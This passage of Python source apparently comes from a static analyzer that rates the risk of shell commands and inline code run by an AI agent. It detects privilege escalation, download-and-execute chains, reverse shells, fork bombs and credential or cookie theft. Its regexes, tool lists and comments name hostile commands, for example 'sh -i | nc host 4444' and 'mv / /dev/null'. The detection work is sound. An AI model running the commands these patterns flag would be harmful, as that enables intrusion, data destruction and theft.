            found = ctx.place(src)
            if found is not None and found[1] is not None:
                ctx.facts.destroy(critical=found[1].kind == "system")
            # moving the root, a home or a system directory away destroys it where it was
            # (``mv / /dev/null``, ``mv ~ /tmp/x``)
            _wipes_if_wide(src, cmd, ctx)


def _wipes_if_wide(target: str, cmd: SimpleCommand, ctx: Context) -> None:
    """A command that empties ``target`` as a side effect (a move away, a sync with
    ``--delete``) is judged as ``rm -r target`` when it is the root, a home or a system
    directory; anything narrower keeps its own reading."""
    found = ctx.place(target)
    top = (found[0].rstrip("/*") or "/") if found is not None else ""
    if target in _RM_WIDE or (
        found is not None
        and (found[0] in _WIDE_ROOTS or top in _SYSTEM_DIRS or _is_home(top, ctx.home))
    ):
        _rm(["rm", "-r", target], cmd, ctx)


def _tee(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    for arg in ctx.operands(argv):
        ctx.write(arg)
        found = ctx.place(arg if "/" in arg or arg.startswith("~") else "./" + arg)
        if found is not None:
            ctx.session.wrote(found[0], cmd.stdin)


def _touch(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    for arg in ctx.operands(argv):
        ctx.write(arg)


def _sed(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    flags = _flags(argv)
    ops = ctx.operands(argv)
    files = ops[1:] if ops and not any(a in ("-e", "-f") for a in argv) else ops
    for arg in files:
        if "i" in flags or "--in-place" in flags:
            ctx.write(arg)
        else:
            ctx.read(arg)


def _editor(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    for arg in ctx.operands(argv):
        found = ctx.place(arg)
        if found is not None:
            ctx.facts.path_read(*found)
            ctx.facts.path_write(*found)


def _chmod(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    flags = _flags(argv)
    ops = ctx.operands(argv)
    if not ops:
        return
    mode, targets = ops[0], ops[1:]
    ctx.facts.propose("fs:write")
    if re.fullmatch(r"[0-7]*[2467][0-7]{3}|[ugoa]*[+=][rwxXt]*s[rwxXt]*", mode):
        ctx.facts.privilege(critical=True)
    recursive = bool(flags & {"R", "--recursive"})
    for target in targets:
        found = ctx.place(target)
        if found is None:
            continue
        path, place = found
        ctx.facts.resource(path)
        if path in _WIDE_ROOTS and recursive:
            ctx.facts.destroy(critical=True, type_id="fs:write")
            if path == "/":
                ctx.facts.tag("chmod_root")
        elif place is not None:
            ctx.facts.tag("system_path" if place.kind == "system" else "sensitive_path")
            if path.startswith(("/etc/sudoers", "/etc/shadow", "/etc/passwd")) or mode in (
                "777",
                "666",
                "o+w",
                "a+w",
            ):
                ctx.facts.privilege(critical=True)


def _chown(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    if not ops:
        return
    owner, targets = ops[0], ops[1:]
    ctx.facts.propose("fs:write")
    if owner.split(":")[0] in ("root", "0") or owner.startswith(":root"):
        ctx.facts.privilege()
    for target in targets:
        found = ctx.place(target)
        if found is not None:
            ctx.facts.resource(found[0])
            if found[0] in _WIDE_ROOTS and {"R", "--recursive"} & _flags(argv):
                ctx.facts.destroy(critical=True, type_id="fs:write")
                if found[0] == "/":
                    ctx.facts.tag("chmod_root")


def _privilege(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    name = ctx.binary(argv[0])
    critical = name in ("visudo", "nsenter", "setcap", "insmod", "modprobe")
    ctx.facts.privilege(critical=critical)
    if name == "su":
        for i, arg in enumerate(argv):
            if arg in ("-c", "--command") and i + 1 < len(argv):
                ctx.recurse(argv[i + 1])
    if name in ("useradd", "adduser", "userdel", "deluser", "groupadd", "chpasswd", "passwd"):
        ctx.facts.propose("identity:user_admin", Severity.HIGH)
    if name in ("usermod", "gpasswd") and any(
        g in ("sudo", "wheel", "docker", "admin", "root", "adm", "lxd", "disk")
        for a in argv[1:]
        for g in a.split(",")
    ):
        ctx.facts.privilege(critical=True)


def _archive(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``tar x``/``unzip`` of a downloaded archive: what it extracts is downloaded too
    (``curl -o p.tgz … && tar xzf p.tgz -C /tmp && /tmp/p/run`` runs a download)."""
    ctx.generic(argv, cmd)
    name = ctx.binary(argv[0])
    archive = dest = None
    args = argv[1:]
    if name == "unzip":
        ops = [a for a in args if not a.startswith("-")]
        archive = ops[0] if ops else None
        dest = next((args[i + 1] for i, a in enumerate(args[:-1]) if a == "-d"), ".")
    else:
        bundle = args[0] if args and not args[0].startswith("-") else ""
        if (
            "x" not in bundle
            and not {"-x", "--extract", "--get"} & set(args)
            and not any(a.startswith("-") and not a.startswith("--") and "x" in a for a in args)
        ):
            return
        for i, a in enumerate(args):
            nxt = args[i + 1] if i + 1 < len(args) else None
            if (
                (a == bundle and "f" in a)
                or a in ("-f", "--file")
                or (a.startswith("-") and not a.startswith("--") and a.endswith("f"))
            ):
                archive = archive or nxt
            elif a.startswith("--file="):
                archive = a.partition("=")[2]
            elif a in ("-C", "--directory"):
                dest = nxt
            elif a.startswith("--directory="):
                dest = a.partition("=")[2]
    if archive is None:
        return
    found = ctx.place(archive if "/" in archive else "./" + archive)
    if found is None or not ctx.session.fetched(found[0]):
        return
    where = dest or "."
    where = where if where.startswith(("/", "~", ".")) else "./" + where
    place = ctx.place(where.rstrip("/") + "/x")  # a file inside: the directory's canonical form
    if place is not None:
        ctx.session.downloaded.add(place[0][: -len("x")])


def _script_operand(arg: str, cmd: SimpleCommand, ctx: Context, *, language: str = "shell") -> None:
    """A script a shell, interpreter or ``source`` runs: downloaded, computed, written
    earlier in the same line (its content is what runs) or a file."""
    if arg in cmd.fetched:
        ctx.facts.tag("download_exec", "code_exec")
        ctx.facts.propose("code:exec", Severity.CRITICAL)
        return
    if arg in cmd.dynamic:
        _opaque(ctx, "the script to run is computed at run time")
        return
    found = ctx.place(arg if "/" in arg or arg.startswith("~") else "./" + arg)
    if found is not None and ctx.session.fetched(found[0]):
        ctx.facts.tag("download_exec", "code_exec")
        ctx.facts.propose("code:exec", Severity.CRITICAL)
    if found is not None:
        run_written(found[0], ctx, language=language)
    ctx.read(arg)


def run_written(path: str, ctx: Context, *, language: str = "shell") -> bool:
    """Judge running ``path`` when an earlier command of the line wrote it: its content
    is what runs (opaque where it is not known statically). False: not written here."""
    if path not in ctx.session.written:
        return False
    content = ctx.session.written[path]
    ctx.facts.tag("code_exec")
    if content is None:
        _opaque(ctx, "runs a file written earlier with content computed at run time")
    elif language == "shell":
        ctx.recurse(content)
    else:
        _run_code(content, language, ctx)
    return True


def _shell(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    for i, arg in enumerate(argv[1:], 1):
        if arg.startswith("-") and "c" in arg[1:] and not arg.startswith("--"):
            if i + 1 < len(argv):
                _run_text(argv[i + 1], cmd, ctx)
            return
        if arg in ("-i", "-p", "-s", "-e", "-x", "-l", "--login", "--norc", "--noprofile"):
            if arg == "-i" and _network_pipe(ctx):
                _reverse_shell(ctx)
            continue
        if not arg.startswith("-"):
            _script_operand(arg, cmd, ctx)
            return
    if _network_pipe(ctx):
        _reverse_shell(ctx)
        return
    if cmd.stdin is not None:
        ctx.facts.tag("code_exec")
        if cmd.piped_in and _upstream(ctx, cmd) & _DECODING:
            _opaque(ctx, "decoded text is run as code")
        ctx.recurse(cmd.stdin)
    elif cmd.reads and not cmd.piped_in:
        for target in cmd.reads:  # ``sh < install.sh`` runs that file
            _script_operand(target, cmd, ctx)
    elif cmd.piped_in or cmd.here_string:
        _piped_code(ctx, cmd)


_DECODING = frozenset(
    {"base64", "base32", "xxd", "openssl", "gunzip", "zcat", "gzip", "rev", "tr", "uudecode",
     "bzcat", "xzcat", "unxz", "perl", "python", "awk"}
)  # fmt: skip
_NETWORK_PROGRAMS = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "openssl"})


def _network_pipe(ctx: Context) -> bool:
    """A pipeline that joins a shell to a network program (``sh -i | nc host 4444``)."""
    return any(c.argv and ctx.binary(c.argv[0]) in _NETWORK_PROGRAMS for c in ctx.pipeline)


def _reverse_shell(ctx: Context) -> None:
    ctx.facts.tag("reverse_shell", "code_exec")
    ctx.facts.mark_outbound(payload=True)
    ctx.facts.propose("net:connect", Severity.CRITICAL)


def _reverse_socket_builtin(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """zsh's ``ztcp HOST PORT`` opens a socket as a shell file descriptor: the only thing
    an agent's command does with that is wire a shell to it."""
    ops = ctx.operands(argv)
    if ops:
        ctx.facts.resource(ops[0])
    _reverse_shell(ctx)


def _upstream(ctx: Context, cmd: SimpleCommand) -> set[str]:
    return {ctx.binary(c.argv[0]) for c in ctx.pipeline if c.argv and c is not cmd}


def _piped_code(ctx: Context, cmd: SimpleCommand) -> None:
    """Code read from a pipe whose content is not known statically."""
    ctx.facts.tag("code_exec")
    upstream = _upstream(ctx, cmd)
    if upstream & _DOWNLOADERS_NET or any(r in cmd.fetched for r in cmd.reads):
        ctx.facts.tag("download_exec")
        ctx.facts.propose("code:exec", Severity.CRITICAL)
        return
    for target in cmd.reads:
        found = ctx.place(target)
        if found is not None and ctx.session.fetched(found[0]):
            ctx.facts.tag("download_exec")
            ctx.facts.propose("code:exec", Severity.CRITICAL)
            return
    if upstream & _DECODING or not upstream or any(c.dynamic for c in ctx.pipeline):
        _opaque(ctx, "decoded or computed text is run as code")
        return
    ctx.facts.propose("code:exec", Severity.HIGH)


_LANGUAGES = {"python": "python", "python2": "python", "python3": "python", "pypy": "python",
              "pypy3": "python", "node": "javascript", "deno": "javascript",
              "bun": "javascript", "perl": "perl", "ruby": "ruby", "php": "php",
              "pwsh": "powershell", "powershell": "powershell", "lua": "lua",
              "osascript": "applescript"}  # fmt: skip


def _interpreter(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    language = _LANGUAGES.get(ctx.binary(argv[0]), "other")
    for i, arg in enumerate(argv[1:], 1):
        if arg in _INLINE_FLAGS or (
            arg.startswith("-") and arg[-1:] in ("c", "e", "E") and len(arg) <= 3
        ):
            code = argv[i + 1] if i + 1 < len(argv) else ""
            if code in cmd.dynamic:
                _opaque(ctx, "inline code computed at run time")
                return
            _run_code(code, language, ctx)
            return
        if arg == "-":
            break
        if arg == "-m":
            module = argv[i + 1] if i + 1 < len(argv) else ""
            if module in ("http.server", "SimpleHTTPServer", "pty"):
                ctx.facts.tag("code_exec")
            elif module == "pip":
                _package(["pip", *argv[i + 2 :]], cmd, ctx)
            return
        if not arg.startswith("-"):
            _script_operand(arg, cmd, ctx, language=language if language != "other" else "auto")
            return
    if cmd.stdin is not None and language != "other":
        if cmd.piped_in and _upstream(ctx, cmd) & _DECODING:
            _opaque(ctx, "decoded text is run as code")
        _run_code(cmd.stdin, language, ctx)
    elif cmd.reads and not cmd.piped_in:
        for target in cmd.reads:  # ``python < job.py`` runs that file
            _script_operand(target, cmd, ctx)
    elif cmd.piped_in or cmd.here_string:
        _piped_code(ctx, cmd)


_PWSH_VALUE_FLAGS = frozenset(
    {"-w", "-windowstyle", "-ep", "-ex", "-executionpolicy", "-v", "-version", "-wd",
     "-workingdirectory", "-configurationname", "-settingsfile", "-psconsolefile",
     "-inputformat", "-if", "-outputformat", "-of", "-o"}
)  # fmt: skip


def _powershell(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``powershell``/``pwsh``: ``-Command`` (any prefix: ``-c``, ``-com``) and a bare first
    operand are PowerShell code, ``-EncodedCommand`` is base64 of UTF-16LE code,
    ``-File`` a script; flags such as ``-w hidden`` take a value."""
    i = 1
    while i < len(argv):
        flag = argv[i].lower()
        value = argv[i + 1] if i + 1 < len(argv) else ""
        if len(flag) >= 2 and "-command".startswith(flag):
            _run_code(" ".join(argv[i + 1 :]), "powershell", ctx)
            return
        if flag in ("-e", "-ec") or (len(flag) >= 3 and "-encodedcommand".startswith(flag)):
            try:
                code = base64.b64decode(value, validate=True).decode("utf-16-le")
            except (binascii.Error, ValueError):
                _opaque(ctx, "an encoded PowerShell command that does not decode")
                return
            _opaque(ctx, "an encoded PowerShell command")
            _run_code(code, "powershell", ctx)
            return
        if len(flag) >= 2 and "-file".startswith(flag):
            _script_operand(value, cmd, ctx, language="powershell")
            return
        if flag in _PWSH_VALUE_FLAGS:
            i += 2
            continue
        if not flag.startswith("-"):
            _run_code(" ".join(argv[i:]), "powershell", ctx)
            return
        i += 1
    if cmd.piped_in or cmd.here_string:
        _piped_code(ctx, cmd)


def _cmd_exe(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``cmd /c LINE`` (``/k``, ``/r``): the line is read as ``cmd.exe`` reads it."""
    rest = next((i for i, a in enumerate(argv) if a.lower() in ("/c", "/k", "/r")), None)
    if rest is None:
        if cmd.piped_in or cmd.here_string:
            _piped_code(ctx, cmd)
        return
    _run_code(" ".join(argv[rest + 1 :]), "cmd", ctx)


def _run_code(code: str, language: str, ctx: Context) -> None:
    if ctx.recurse_code is not None:
        ctx.recurse_code(code, language)
    else:
        inline_code(code, ctx, language=language)


_NET_CODE = re.compile(
    r"\b(?:requests\.(?:post|put|get)|urllib|urlopen|http\.client|socket\.|fetch\(|"
    r"axios|XMLHttpRequest|smtplib|paramiko|LWP::|Net::HTTP|TCPSocket|IO::Socket|"
    r"Net\.Sockets|net\.(?:connect|Socket|createConnection)|sendBeacon|WebSocket\(|"
    r"new\s+Image\b)",
)
# A GET of a literal URL and nothing else (no options, no callback, nothing built at run
# time): ``fetch('https://…')``, ``axios.get("https://…")``, ``URI.open('https://…')``.
_PLAIN_GET = re.compile(
    r"\b(?:fetch|axios\.get|got|ky|superagent\.get|URI\.open|Net::HTTP\.get|httr::GET|GET)"
    r"\s*\(\s*([\"'`])(https?://[^\"'`$\s{}]+)\1\s*\)"
)
_MAX_GETS = 8
# A page's session secrets read by script (what a cookie or token thief sends away).
_BROWSER_SECRETS = re.compile(
    r"document\.cookie|(?:local|session)Storage\b|indexedDB\.open|"
    r"credentials\.get\(|PasswordCredential"
)
_ENV_DUMP_CODE = re.compile(r"os\.environ\b(?!\s*[\[.]\s*(?:get\b)?)|process\.env\b(?!\.)|%ENV\b")
_SHELL_CALL = re.compile(
    r"(?:system|popen|exec(?:Sync)?|spawn(?:Sync)?|check_output|run|call|shell_exec|passthru|"
    r"execute|proc_open|pcntl_exec|capture[23]e?|popen[23]e?|Start-Process|Invoke-Expression|"
    r"iex)\s*\(?\s*[\"'`]([^\"'`]{1,4096})[\"'`]"
)
# A program and its arguments as a list: ``spawn("rm", ["-rf", "/"])``,
# ``new Deno.Command("rm", {args: [...]})``, ``exec.Command("sh", "-c", "...")``,
# ``system("rm", "-rf", "/")`` (Perl, Ruby), ``Runtime.exec(new String[]{"sh", ...})``,
# ``Deno.run({cmd: [...]})``: joined into one command line.
_ARGV_CALL = re.compile(
    r"(?:spawn(?:Sync)?|execFile(?:Sync)?|Command|system|exec|run|start|ProcessBuilder|"
    r"Process\.Start)\s*\(\s*(?:new\s+String\s*\[\s*\]\s*)?[\[{]?\s*"
    r"((?:[\"'`][^\"'`]{1,1024}[\"'`]\s*(?:,\s*(?:\{\s*args\s*:\s*)?\[?\s*)?){2,32})"
)
_ARGV_LIST = re.compile(
    r"\b(?:cmd|args|argv|command)\s*:\s*\[((?:\s*[\"'`][^\"'`]{1,1024}[\"'`]\s*,?){1,32})\]"
)
_QUOTED = re.compile(r"[\"'`]([^\"'`]{0,1024})[\"'`]")
# A process-starting call of a process API whose command is computed: opaque. (Only
# child_process/os/io-style receivers: ``regex.exec(text)`` runs nothing.)
_COMPUTED_PROCESS = re.compile(
    r"(?:child_process|\bcp|\bproc|\bos|\bio|\bKernel|\bOpen3|\bRuntime\.getRuntime\(\))\s*"
    r"\.\s*(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|execute|popen|system|"
    r"capture2e?|popen3)\s*\(\s*(?![\"'`\s])"
    r"|require\(\s*['\"]child_process['\"]\s*\)\s*\.\s*\w+\s*\(\s*(?![\"'`\s])"
    r"|\b(?:shell_exec|passthru|proc_open)\s*\(\s*(?![\"'`\s])"
)
_BACKTICKS = re.compile(r"`([^`]{1,4096})`")
_CODE_REVERSE = re.compile(
    r"(?:socket|TCPSocket|IO::Socket|Net\.Sockets\.TCPClient|net\.(?:connect|Socket|createConnection))"
    r"[\s\S]{0,2000}?(?:dup2|exec|spawn|/bin/(?:ba)?sh|cmd\.exe|STDIN|pipe\(|\.fileno|"
    r"\biex\b|Invoke-Expression)",
)
_CODE_FORK_BOMB = re.compile(
    r"fork\s*(?:\(\s*\))?\s*while\s+(?:fork|1\b|true\b)|while\s*\(?\s*(?:1|true|True)\s*\)?\s*[:{]?\s*"
    r"(?:os\.)?fork\s*\("
)
_CODE_DECODE_EXEC = re.compile(
    r"(?:eval|exec|execSync|system|popen|spawn|spawnSync|execute|Invoke-Expression|iex)\b"
    r"[\s\S]{0,200}?(?:base64|b64decode|atob|"
    r"FromBase64String|decode|unpack|fromhex|Buffer\.from)"
)
# Evaluating what was just fetched, in either order: ``IEX (…).DownloadString(url)``,
# ``iwr url | iex``, ``eval(file_get_contents("http…"))``, ``https.get(url, … eval(d))``.
_FETCHERS = (
    r"(?:DownloadString|DownloadData|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|"
    r"\birm\b|Net::HTTP|LWP::Simple|urlopen|URI\.open|URI\.parse|open-uri|HTTParty|Faraday|"
    r"file_get_contents\s*\(\s*[\"']https?:|"
    r"\.get\s*\(\s*[\"'`]https?:|fetch\s*\(\s*[\"'`]https?:)"
)
_CODE_FETCH_EXEC = re.compile(
    r"(?:\b(?:eval|iex|Invoke-Expression)\b[\s\S]{0,300}?"
    + _FETCHERS
    + ")|(?:"
    + _FETCHERS
    + r"[\s\S]{0,300}?(?:\|\s*(?:iex|Invoke-Expression)\b|\beval\s*\(|\bnew\s+Function\s*\())",
    re.IGNORECASE,
)
# A recursive delete through a file API (Node ``fs.rmSync(p, {recursive: true})``, Deno,
# ``rimraf``): read as ``rm -rf p`` so the path decides (root and home are hard rules).
_CODE_RECURSIVE_DELETE = re.compile(
    r"\b(?:rmSync|rmdirSync|rm|rmdir|remove|removeSync|rimraf(?:\.sync)?)\s*\(\s*"
    r"([\"'`])([^\"'`]{1,1024})\1\s*(?:,\s*\{[^}]{0,200}\brecursive\s*:\s*true|\))"
)
# Tree deletes of other languages' libraries (always recursive): Ruby ``FileUtils.rm_rf``,
# Perl ``File::Path::rmtree``, Go ``os.RemoveAll``, Rust ``remove_dir_all``, .NET
# ``Directory.Delete(p, true)``, Java ``FileUtils.deleteDirectory``; and Node's ``rm`` family
# with ``recursive: true`` whatever its path expression is.
_ARG = r"((?:[^,;(){}]|\([^()]{0,100}\)|\{[^{}]{0,100}\}){1,300})"
_CODE_TREE_DELETE = re.compile(
    r"(?:FileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?|deleteDirectory|"
    r"forceDelete)|\brmtree|\bremove_tree|\bRemoveAll|\bremove_dir_all|Directory\.Delete|"
    r"\bdeleteRecursively|\bdelete_recursive)"
    r"\s*\(\s*" + _ARG + r"\s*(?:,\s*true\s*)?\)"
    r"|\b(?:rmSync|rmdirSync|rm|rmdir)\s*\(\s*" + _ARG + r",\s*\{[^}]{0,200}\brecursive\s*:\s*true"
    r"|\bunlink\s*\(\s*" + _ARG + r"\s*,[^)]{0,80}\brecursive\s*=\s*(?:TRUE|T)\b"  # R
)
_HOME_EXPR = re.compile(
    r"homedir\(\)|Dir\.home|ENV\[['\"]HOME['\"]\]|\$ENV\{HOME\}|UserHomeDir|"
    r"path\.expand\(\s*['\"]~['\"]\s*\)|Sys\.getenv\(['\"]HOME['\"]\)|"
    r"process\.env\.HOME|Getenv\(\"HOME\"\)|GetFolderPath|home_dir\(\)|^['\"`]?~",
)
_LITERAL_ARG = re.compile(r"^@?([\"'`])([^\"'`]{1,1024})\1$")
# ``path.join(__dirname, "build")``: a path below the script's or working directory
_JOINED = re.compile(
    r"^path\.(?:join|resolve)\(\s*(?:__dirname|process\.cwd\(\)|['\"]\.['\"])((?:\s*,\s*"
    r"(['\"])[\w.@+-]+\2)+)\s*\)$"
)


def _tree_deletes(text: str, ctx: Context, *, foreign_only: bool = False) -> None:
    """Recursive deletes through a language's file API, read as ``rm -rf`` of their path:
    a literal path as written, the user's home as ``~``, a join below the working
    directory as that relative path, anything else computed. ``foreign_only``: code read
    as Python already (``shutil.rmtree`` is the Python reader's), only other languages'."""
    for m in _CODE_TREE_DELETE.finditer(text):
        if foreign_only and (m.group(2) is not None or "rmtree" in m.group(0)):
            continue
        arg = next((g for g in m.groups() if g), "").strip()
        literal = _LITERAL_ARG.match(arg)
        joined = _JOINED.match(arg)
        if literal is not None:
            ctx.recurse("rm -rf " + _quote(literal.group(2)))
        elif joined is not None:
            parts = re.findall(r"['\"]([\w.@+-]+)['\"]", joined.group(1))
            ctx.recurse("rm -rf " + _quote("./" + "/".join(parts)))
        elif _HOME_EXPR.search(arg):
            ctx.recurse("rm -rf ~")
        else:
            ctx.facts.destroy(critical=False)
            _opaque(ctx, "a recursive delete of a path computed at run time")


_LOOKS_JS = re.compile(
    r"\b(?:const|let|var|function)\s|=>|console\.|require\(|process\.|\bawait\s+fetch"
)


def inline_code(code: str, ctx: Context, *, language: str = "other") -> None:
    """Facts of code given to an interpreter. Python is read with ``ast``
    (:mod:`~aimds.rules.understanding.python_code`); other languages by their calls that
    run shell strings, open sockets or decode-and-evaluate. ``language="auto"``: Python
    unless the code is plainly another language; code that is neither is opaque."""
    ctx.facts.tag("code_exec")
    ctx.facts.propose("code:exec", Severity.MEDIUM)
    text = code[:16384]
    if language == "powershell":
        from aimds.rules.understanding.powershell import read_powershell

        if not read_powershell(text, ctx):
            _opaque(ctx, "the PowerShell parser is unavailable")
    elif language == "cmd":
        from aimds.rules.understanding.windows_cmd import read_cmd

        read_cmd(text, ctx)
        return
    if language in ("python", "auto"):
        from aimds.rules.understanding.python_code import analyze_python

        if analyze_python(text, ctx):
            _tree_deletes(text, ctx, foreign_only=True)  # Go or Ruby that parses as Python
            return
        if language == "python" or not _LOOKS_JS.search(text):
            _opaque(ctx, "code that does not parse")
            _other_code(text, ctx)
            return
    _other_code(text, ctx)


def _quote(word: str) -> str:
    """``word`` as one shell word, ``~`` left unquoted so that it still means home."""
    import shlex

    return (
        "~" + shlex.quote(word[1:])
        if word.startswith("~") and len(word) > 1
        else (word if word == "~" else shlex.quote(word))
    )


def _other_code(text: str, ctx: Context) -> None:
    for m in _INLINE_PATH.finditer(text):
        word = m.group(0)
        if len(word) > 1:
            ctx.read(word)
    if _NET_CODE.search(text):
        gets = _PLAIN_GET.findall(text)
        if gets and not _NET_CODE.search(_PLAIN_GET.sub("", text)):
            # only GETs of literal URLs (``fetch('https://registry.npmjs.org/react')``): a
            # download, judged by its URL as an HTTP GET is (data in its query string)
            for _quote_mark, url in gets[:_MAX_GETS]:
                url_facts(url, ctx.facts, method="GET")
        else:
            ctx.facts.mark_outbound(payload=True)
        if _BROWSER_SECRETS.search(text):  # a page's session secrets sent away: theft
            ctx.facts.credential("browser_session")
    if _ENV_DUMP_CODE.search(text):
        ctx.facts.credential("env")
    if _CODE_REVERSE.search(text):
        _reverse_shell(ctx)
    if _CODE_FORK_BOMB.search(text):
        ctx.facts.tag("fork_bomb")
        ctx.facts.destroy(critical=True, type_id="code:exec")
    if _CODE_DECODE_EXEC.search(text):
        _opaque(ctx, "decoded data is evaluated")
    if _CODE_FETCH_EXEC.search(text):
        _fetched_code(ctx)
    for m in _CODE_RECURSIVE_DELETE.finditer(text):
        if m.group(0).startswith("rimraf") or "recursive" in m.group(0):
            ctx.recurse("rm -rf " + _quote(m.group(2)))
    _tree_deletes(text, ctx)
    for m in _SHELL_CALL.finditer(text):
        ctx.recurse(m.group(1))
    for m in itertools.chain(_ARGV_CALL.finditer(text), _ARGV_LIST.finditer(text)):
        words = _QUOTED.findall(m.group(1))
        if len(words) > 1:
            ctx.recurse(" ".join(_quote(w) for w in words))
    if _COMPUTED_PROCESS.search(text):
        ctx.facts.tag("code_exec")
        _opaque(ctx, "a process is started with a command computed at run time")
    for m in _BACKTICKS.finditer(text):
        ctx.recurse(m.group(1))


def _eval(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.tag("code_exec")
    if any(a in cmd.fetched for a in argv[1:]):
        _fetched_code(ctx)
    ctx.recurse(" ".join(argv[1:]))


def _run_text(text: str, cmd: SimpleCommand, ctx: Context) -> None:
    """A command string run by a shell (``sh -c TEXT``); downloaded text is download-exec."""
    if text in cmd.fetched:
        _fetched_code(ctx)
    ctx.recurse(text)


def _fetched_code(ctx: Context) -> None:
    ctx.facts.tag("download_exec", "code_exec")
    ctx.facts.propose("code:exec", Severity.CRITICAL)


def _source(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    if not ops:
        return
    if ops[0] in ("/dev/stdin", "-") and cmd.piped_in:
        _piped_code(ctx, cmd)
        return
    _script_operand(ops[0], cmd, ctx)
    ctx.generic(argv[1:], cmd)


# --- network


_CURL_VALUE = frozenset(
    {"-X", "--request", "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode",
     "--data-ascii", "--json", "-F", "--form", "--form-string", "-T", "--upload-file", "-u",
     "--user", "-H", "--header", "-o", "--output", "-A", "--user-agent", "-e", "--referer",
     "-b", "--cookie", "-c", "--cookie-jar", "-x", "--proxy", "-m", "--max-time", "--url",
     "-w", "--write-out", "-E", "--cert", "--key", "--connect-timeout", "--retry", "-K",
     "--config", "-r", "--range", "--resolve", "--connect-to", "-z", "--oauth2-bearer"}
)  # fmt: skip
_WGET_VALUE = frozenset(
    {"-O", "--output-document", "--post-data", "--post-file", "--body-data", "--body-file",
     "--method", "--header", "-U", "--user-agent", "--user", "--password", "--http-user",
     "--http-password", "-P", "--directory-prefix", "-o", "--output-file", "-e", "-t",
     "--tries", "-T", "--timeout", "--ftp-user", "--ftp-password"}
)  # fmt: skip


def _curl(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    name = ctx.binary(argv[0])
    values = _CURL_VALUE if name == "curl" else _WGET_VALUE
    method: str | None = None
    payload = upload = download = False
    urls: list[str] = []
    i = 1
    while i < len(argv):
        arg = argv[i]
        flag, eq, inline = arg.partition("=") if arg.startswith("--") else (arg, "", "")
        glued = not eq and flag[:1] == "-" and flag[:2] != "--" and len(flag) > 2
        if glued and flag[:2] in values:  # -XPOST, -dvalue
            flag, inline, eq = flag[:2], flag[2:], "="
        value = inline if eq else (argv[i + 1] if i + 1 < len(argv) else "")
        takes = flag in values
        if flag in ("-X", "--request", "--method"):
            method = value.upper()
        elif flag in ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode",
                      "--data-ascii", "--json", "--post-data", "--body-data", "--post-file",
                      "--body-file", "--form", "-F", "--form-string"):  # fmt: skip
            payload = True
            upload = upload or flag in ("-F", "--form")
            ref = value.split("=", 1)[-1] if flag in ("-F", "--form") else value
            if flag in ("--post-file", "--body-file"):
                ref = "@" + value
            if ref.startswith(("@", "<")) and ref[1:] not in ("-", ""):
                ctx.read(ref[1:].split(";", 1)[0])
            elif ref in ("@-", "<-", "-"):
                payload = True
        elif flag in ("-T", "--upload-file"):
            upload = payload = True
            if value != "-":
                ctx.read(value)
        elif flag in ("-u", "--user", "--password", "--http-password", "--ftp-password"):
            ctx.facts.tag("auth_attempt")
        elif flag in ("-o", "--output", "-O", "--output-document", "-P", "--directory-prefix"):
            download = True
            if flag in ("-o", "--output", "-O", "--output-document") and takes:
                ctx.write(value) if value != "-" else None
        elif flag in ("--remote-name", "--remote-name-all") or (flag == "-O" and name == "curl"):
            download = True
        elif flag == "--url":
            urls.append(value)
        elif flag in ("-G", "--get"):
            method = "GET"
        if takes and not eq:
            i += 2
            continue
        if not arg.startswith("-"):
            urls.append(arg)
        i += 1
    if payload and method is None:
        method = "POST"
    ctx.session.downloads += 1
    if name == "wget" and not cmd.piped_out:
        download = True
    for i, arg in enumerate(argv[:-1]):
        cluster = arg[:1] == "-" and arg[1:2] != "-" and arg[-1:] in ("o", "O")
        if (cluster or arg in ("--output", "--output-document")) and argv[i + 1] != "-":
            found = ctx.place(argv[i + 1]) or ctx.place("./" + argv[i + 1])
            if found is not None:
                ctx.session.downloaded.add(found[0])
    remote_name = (
        name == "curl"
        and any(  # ``curl -O url`` saves under the URL's name
            a in ("--remote-name", "--remote-name-all") or (a[:1] == "-" != a[1:2] and "O" in a)
            for a in argv[1:]
        )
    )
    if (name == "wget" and download) or remote_name:
        for url in urls:
            base = url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
            found = ctx.place("./" + base) if base and "://" not in base else None
            if found is not None:
                ctx.session.downloaded.add(found[0])
    for url in urls:
        url_facts(url if "://" in url else "http://" + url, ctx.facts, method=method or "GET")
    ctx.facts.mark_outbound(payload=payload)
    if upload:
        ctx.facts.propose("net:upload")
    elif payload or method in ("POST", "PUT", "PATCH", "DELETE"):
        ctx.facts.propose("net:http_post")
    elif download:
        ctx.facts.propose("net:download")
    else:
        ctx.facts.propose("net:http_get")


# Downloaders that save a URL to a file (the name from ``-o``, a second operand or the
# URL's last segment, in ``-d``/``-P`` or the working directory).
_SAVE_FLAGS = frozenset({"-o", "--out", "--output", "-O"})
_DIR_FLAGS = frozenset({"-d", "--dir", "-P"})
_FETCH_VALUE_FLAGS = _SAVE_FLAGS | _DIR_FLAGS | frozenset(
    {"-x", "-s", "-j", "-n", "--header", "-H", "-U", "--user-agent", "-m", "-T", "-i",
     "--input-file", "-u", "--http-user", "--http-passwd", "--max-connection-per-server"}
)  # fmt: skip


def _fetcher(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
